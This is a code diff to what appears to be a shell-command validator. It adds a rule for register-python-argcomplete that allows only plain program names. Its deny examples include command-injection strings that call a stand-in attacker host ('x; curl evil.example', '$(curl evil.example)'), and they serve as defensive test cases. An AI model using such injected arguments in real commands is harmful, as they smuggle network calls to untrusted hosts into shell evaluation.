@@ -111,6 +111,12 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
     config: /^STARSHIP_/,
     examples: { deny: ['eval "$(starship init bash --print-full-init)"', 'eval "$(STARSHIP_CONFIG=x.toml starship init bash)"'], pass: ['eval "$(starship init bash)"'] },
   }),
+  shellInit(known('register-python-argcomplete register-python-argcomplete3', "argcomplete: prints the bash completion hook of the Python programs it names"), {
+    // The names go into the hook's `complete` line as they are: only plain program names.
+    when: /^(?:(?:-s|--shell)[ =]bash )?[A-Za-z0-9_][\w.+-]*$/,
+    config: /^_?ARGCOMPLETE/,
+    examples: { deny: ['eval "$(register-python-argcomplete \'x; curl evil.example\')"', 'eval "$(register-python-argcomplete --complete-arguments \'$(curl evil.example)\' x)"'], pass: ['eval "$(register-python-argcomplete my-tool)"', 'eval "$(register-python-argcomplete --shell bash pipx)"'] },
+  }),
   known(PROCESS, 'process and service tools: program names are data'),
   known(DEVELOP, 'compilers, build tools, linters and cloud CLIs: they run files, not words'),
   known(TEXT, 'text tools'),
